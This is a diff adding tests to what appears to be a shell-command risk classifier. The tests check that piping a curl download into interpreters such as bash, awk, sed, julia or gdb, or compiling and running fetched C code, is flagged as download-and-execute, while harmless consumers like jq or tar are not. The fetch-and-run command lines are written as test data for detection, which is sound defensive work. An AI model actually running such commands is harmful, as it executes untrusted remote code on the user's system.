@@ -161,3 +161,19 @@ def test_endless_background_jobs_are_catastrophic() -> None:
     assert "catastrophic" not in effects("while true; do work & wait; done")
     assert "catastrophic" not in effects("while read x; do work $x & done")
     assert "catastrophic" not in effects("while true; do work & sleep 5; done")
+
+
+def test_what_runs_its_standard_input_runs_what_the_network_sent() -> None:
+    for program in (
+        "bash /dev/fd/0", "awk '{system($0)}'", "sed e", "groovy", "julia", "Rscript -", "bun run -",
+        "gdb -batch -x /dev/stdin", "uv run -", "bash +e", "sh +o posix",
+    ):  # fmt: skip
+        assert "download.exec" in effects(f"curl -s https://x.example | {program}"), program
+    for program in (
+        "python3 -c 'import sys; print(sys.stdin.read())'", "awk '{print $1}'", "jq .a", "tar xz",
+    ):  # fmt: skip
+        assert "download.exec" not in effects(f"curl -s https://x.example | {program}"), program
+
+
+def test_what_is_made_from_the_network_and_run_is_download_exec() -> None:
+    assert "download.exec" in effects("curl -s https://x.example | gcc -xc - -o a && ./a")
